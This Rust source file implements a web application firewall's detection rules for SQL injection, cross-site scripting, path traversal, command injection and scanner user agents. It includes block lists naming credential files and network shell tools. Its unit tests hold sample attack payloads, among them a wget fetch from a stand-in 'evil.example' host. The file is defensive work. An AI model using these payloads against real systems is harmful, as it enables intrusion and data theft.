//! The native rule families, each a test over one decoded value.
//!
//! - `SqlInjection` and `CrossSiteScripting`: libinjection (the `libinjectionrs` port),
//!   which tokenizes the value as SQL or HTML and matches token fingerprints, rather
//!   than regexes over words: "O'Reilly", "select a blue shirt" and "1 < 2" pass.
//! - `PathTraversal`: a `..` segment leaving the directory (at the start of a value, or
//!   two in a row), any `..` segment in the path itself, and well-known system files.
//! - `CommandInjection`: a shell separator or substitution (`;`, `|`, `&&`, `` ` ``,
//!   `$(`, a newline after a token) followed by a command a shell would run, with shell
//!   arguments or nothing after it; `${IFS}`.
//! - `ScannerDetection`: attack tools' `User-Agent`s and marker headers.
//! - `ProtocolViolation`: what decoding noticed (bad escapes, overlong UTF-8, NUL and
//!   control bytes) and requests no API takes (`TRACE`, a body on `GET`, many ranges).
//!
//! Values made only of letters, digits and `-._~/:,@` cannot carry SQL, markup or a
//! shell command and skip those tests (most header values, most paths).

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use gatehouse_table::policy::WafRule;

/// Where a value came from: some tests apply to some parts only.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Part {
    /// The request path.
    Path,
    /// A query parameter's name or value.
    Query,
    /// A header value (a cookie's value).
    Header,
    /// A body value (a JSON string, a form field, or the text).
    Body,
}

/// The native rule families a rule runs, as a bit set.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(crate) struct Families(u8);

impl Families {
    fn bit(rule: WafRule) -> u8 {
        1 << (rule as u8)
    }

    /// The set of `rules`.
    pub fn of(rules: &[WafRule]) -> Families {
        Families(rules.iter().fold(0, |acc, r| acc | Families::bit(*r)))
    }

    /// Whether `rule` is in the set.
    pub fn has(self, rule: WafRule) -> bool {
        self.0 & Families::bit(rule) != 0
    }

    /// Whether the set is empty.
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// The set as bits (one per [`WafRule`], in declaration order).
    pub fn bits(self) -> u8 {
        self.0
    }
}

/// Whether `value` is made only of bytes that cannot form SQL, markup or shell syntax.
fn inert(value: &[u8]) -> bool {
    value.iter().all(|&b| {
        b.is_ascii_alphanumeric()
            || matches!(b, b'-' | b'.' | b'_' | b'~' | b'/' | b':' | b',' | b'@')
    })
}

/// The first family of `families` that `value` (decoded, from `part`) trips.
pub(crate) fn check(families: Families, part: Part, value: &[u8]) -> Option<WafRule> {
    if families.has(WafRule::PathTraversal) && traversal(part, value) {
        return Some(WafRule::PathTraversal);
    }
    if inert(value) {
        return None;
    }
    if families.has(WafRule::SqlInjection) && libinjectionrs::detect_sqli(value).is_injection() {
        return Some(WafRule::SqlInjection);
    }
    if families.has(WafRule::CrossSiteScripting) && xss(value) {
        return Some(WafRule::CrossSiteScripting);
    }
    if families.has(WafRule::CommandInjection) && command(value) {
        return Some(WafRule::CommandInjection);
    }
    None
}

fn xss(value: &[u8]) -> bool {
    // Markup needs `<`, or a `javascript:`-like URL, or an attribute break (`"` or `'`).
    if !value
        .iter()
        .any(|&b| matches!(b, b'<' | b'>' | b'"' | b'\'' | b'`' | b':' | b'='))
    {
        return false;
    }
    libinjectionrs::detect_xss(value).is_injection() || script_url(value)
}

/// `javascript:` / `vbscript:` / `data:text/html` at the start of a value (after
/// spaces): what a link or redirect parameter would run.
fn script_url(value: &[u8]) -> bool {
    static SCHEMES: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(["javascript:", "vbscript:", "data:text/html"])
            .ok()
    });
    let start = value
        .iter()
        .position(|b| !b.is_ascii_whitespace())
        .unwrap_or(value.len());
    let value: Vec<u8> = value[start..]
        .iter()
        .take(32)
        .copied()
        .filter(|b| !b.is_ascii_whitespace())
        .collect();
    SCHEMES
        .as_ref()
        .and_then(|a| a.find(&value))
        .is_some_and(|m| m.start() == 0)
}

/// Files no API request names.
const SYSTEM_FILES: [&str; 16] = [
    "etc/passwd",
    "etc/shadow",
    "etc/group",
    "etc/hosts",
    "proc/self/",
    "proc/version",
    "win.ini",
    "boot.ini",
    "windows/system32",
    "windows\\system32",
    "web-inf/web.xml",
    ".htpasswd",
    ".htaccess",
    ".ssh/id_rsa",
    ".aws/credentials",
    "file://",
];

fn traversal(part: Part, value: &[u8]) -> bool {
    static FILES: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(SYSTEM_FILES)
            .ok()
    });
    let has_dots = memchr::memmem::find(value, b"..").is_some();
    if has_dots {
        let sep = |b: u8| b == b'/' || b == b'\\';
        // `..` segments, and how many come in a row.
        let mut run = 0;
        let mut longest = 0;
        let mut starts_with = false;
        for (i, seg) in value.split(|b| sep(*b)).enumerate() {
            if seg == b".." || seg == b"..." || (seg.len() > 2 && seg.iter().all(|b| *b == b'.')) {
                run += 1;
                longest = longest.max(run);
                if i == 0 && value.len() > seg.len() {
                    starts_with = true;
                }
            } else if !seg.is_empty() {
                run = 0;
            }
        }
        let in_path = part == Part::Path && longest > 0;
        if in_path || longest >= 2 || starts_with {
            return true;
        }
    }
    (has_dots || value.iter().any(|b| *b == b'/' || *b == b'\\'))
        && FILES.as_ref().is_some_and(|a| a.is_match(value))
}

/// Commands an injected shell line runs.
const COMMANDS: [&str; 57] = [
    "sh",
    "bash",
    "zsh",
    "ksh",
    "dash",
    "csh",
    "cat",
    "ls",
    "id",
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "ping",
    "nslookup",
    "dig",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "powershell",
    "pwsh",
    "cmd",
    "cmd.exe",
    "echo",
    "printenv",
    "env",
    "rm",
    "chmod",
    "chown",
    "kill",
    "sleep",
    "head",
    "tail",
    "base64",
    "xxd",
    "awk",
    "sed",
    "find",
    "tar",
    "sudo",
    "su",
    "crontab",
    "ifconfig",
    "ipconfig",
    "netstat",
    "ps",
    "ssh",
    "busybox",
    "certutil",
    "type",
];

fn command(value: &[u8]) -> bool {
    if !value
        .iter()
        .any(|&b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n'))
    {
        return false;
    }
    let lower = value.to_ascii_lowercase();
    if memchr::memmem::find(&lower, b"${ifs").is_some()
        || memchr::memmem::find(&lower, b"$ifs").is_some()
    {
        return true;
    }
    let mut i = 0;
    while i < lower.len() {
        let b = lower[i];
        let after = match b {
            b';' | b'|' => Some(i + 1),
            b'&' if lower.get(i + 1) == Some(&b'&') => Some(i + 2),
            b'&' => Some(i + 1),
            // A newline only after a token (`127.0.0.1\nid`): in prose and markdown,
            // lines start commands of the text's own.
            b'\n' if !lower[..i].contains(&b' ') => Some(i + 1),
            // Substitution right after a value (`name=`id``), not inline code in prose.
            b'`' if i > 0 && !lower[i - 1].is_ascii_whitespace() && lower[i - 1] != b'(' => {
                Some(i + 1)
            }
            b'$' if lower.get(i + 1) == Some(&b'(') => Some(i + 2),
            _ => None,
        };
        if let Some(start) = after
            && runs_command(&lower[start..])
        {
            return true;
        }
        i += 1;
    }
    false
}

/// Whether `rest` starts (after spaces, and a `/bin/`-like directory) with a command
/// followed by nothing, by shell syntax, or by arguments that look like a shell's.
fn runs_command(rest: &[u8]) -> bool {
    let rest = trim_start(rest);
    let word_len = rest
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-'))
        .count();
    let word = &rest[..word_len];
    let name = match word.iter().rposition(|b| *b == b'/') {
        Some(slash) => &word[slash + 1..],
        None => word,
    };
    if !COMMANDS.iter().any(|c| c.as_bytes() == name) {
        return false;
    }
    let tail = &rest[word_len..];
    match tail.first() {
        None => true,
        Some(b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'$' | b'\n' | b'\'' | b'"') => true,
        Some(b' ' | b'\t') => {
            let arg = trim_start(tail);
            match arg.first() {
                None => true,
                Some(
                    b'-' | b'/' | b'.' | b'$' | b'~' | b'>' | b'<' | b'`' | b'\'' | b'"' | b'\\',
                ) => true,
                Some(b) if b.is_ascii_digit() => true,
                _ => arg.starts_with(b"http"),
            }
        }
        _ => false,
    }
}

fn trim_start(s: &[u8]) -> &[u8] {
    let start = s
        .iter()
        .position(|b| !matches!(b, b' ' | b'\t'))
        .unwrap_or(s.len());
    &s[start..]
}

/// Attack tools, as their `User-Agent`s name them (lowercase).
const SCANNERS: [&str; 34] = [
    "sqlmap",
    "nikto",
    "nmap",
    "masscan",
    "zgrab",
    "nuclei",
    "acunetix",
    "netsparker",
    "nessus",
    "openvas",
    "w3af",
    "dirbuster",
    "gobuster",
    "dirb/",
    "wpscan",
    "wfuzz",
    "ffuf",
    "fimap",
    "havij",
    "arachni",
    "skipfish",
    "zmeu",
    "jaeles",
    "whatweb",
    "commix",
    "xsstrike",
    "morfeus",
    "paros",
    "webinspect",
    "appscan",
    "burp collaborator",
    "jorgee",
    "grabber",
    "bsqlbf",
];

/// Headers only attack tools send.
const SCANNER_HEADERS: [&str; 5] = [
    "acunetix-product",
    "acunetix-scanning-agreement",
    "x-scan-memo",
    "x-wipp",
    "x-request-memo",
];

/// Whether a `User-Agent` names an attack tool.
pub(crate) fn scanner_agent(agent: &[u8]) -> bool {
    static AGENTS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::LeftmostFirst)
            .build(SCANNERS)
            .ok()
    });
    AGENTS.as_ref().is_some_and(|a| a.is_match(agent))
}

/// Whether a header name is one only attack tools send.
pub(crate) fn scanner_header(name: &str) -> bool {
    SCANNER_HEADERS.contains(&name)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all() -> Families {
        Families::of(&WafRule::ALL)
    }

    fn hit(part: Part, value: &str) -> Option<WafRule> {
        check(all(), part, value.as_bytes())
    }

    #[test]
    fn benign_text_passes() {
        for v in [
            "O'Reilly",
            "select a blue shirt",
            "Tom & Jerry",
            "if the count is < 10, stop",
            "Use the <b> tag for bold",
            "wait... what?",
            "see ../docs/readme.md for details",
            "rock | roll",
            "| id | name |\n|----|------|",
            "Run `ls -la` to list the files",
            "price: $100 (tax included)",
            "I like dogs; cats too",
            "Please echo this back",
            "email me at a.b@example.com",
            "https://example.com/a?b=c&d=e",
            "SELECT is a keyword; so is FROM",
            "It's 5 o'clock; let's go",
        ] {
            assert_eq!(hit(Part::Body, v), None, "{v:?}");
        }
        assert_eq!(hit(Part::Path, "/api/v1/users/42"), None);
    }

    #[test]
    fn attacks_trip_their_family() {
        for (v, rule) in [
            ("1' OR '1'='1", WafRule::SqlInjection),
            ("1 UNION SELECT password FROM users", WafRule::SqlInjection),
            ("admin'--", WafRule::SqlInjection),
            ("<script>alert(1)</script>", WafRule::CrossSiteScripting),
            ("<img src=x onerror=alert(1)>", WafRule::CrossSiteScripting),
            ("javascript:alert(1)", WafRule::CrossSiteScripting),
            ("../../etc/passwd", WafRule::PathTraversal),
            ("..\\..\\windows\\win.ini", WafRule::PathTraversal),
            ("/etc/passwd", WafRule::PathTraversal),
            ("; cat /etc/hosts", WafRule::PathTraversal),
            ("127.0.0.1; ls -la", WafRule::CommandInjection),
            ("x | id", WafRule::CommandInjection),
            ("$(whoami)", WafRule::CommandInjection),
            ("name=`id`", WafRule::CommandInjection),
            (
                "a&&wget http://evil.example/x.sh",
                WafRule::CommandInjection,
            ),
            ("127.0.0.1\nid", WafRule::CommandInjection),
            ("cat${IFS}x", WafRule::CommandInjection),
            ("; sleep 5", WafRule::CommandInjection),
        ] {
            assert_eq!(hit(Part::Query, v), Some(rule), "{v:?}");
        }
        assert_eq!(
            hit(Part::Path, "/files/../secret"),
            Some(WafRule::PathTraversal)
        );
    }

    #[test]
    fn only_the_families_asked_for_run() {
        let sqli = Families::of(&[WafRule::SqlInjection]);
        assert_eq!(check(sqli, Part::Query, b"<script>alert(1)</script>"), None);
        assert!(Families::of(&[]).is_empty());
    }

    #[test]
    fn scanners_are_named_by_their_agents() {
        assert!(scanner_agent(b"sqlmap/1.7.2#stable (https://sqlmap.org)"));
        assert!(scanner_agent(b"Mozilla/5.00 (Nikto/2.1.6)"));
        assert!(!scanner_agent(
            b"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"
        ));
        assert!(!scanner_agent(b"curl/8.5.0"));
        assert!(scanner_header("acunetix-product"));
    }
}
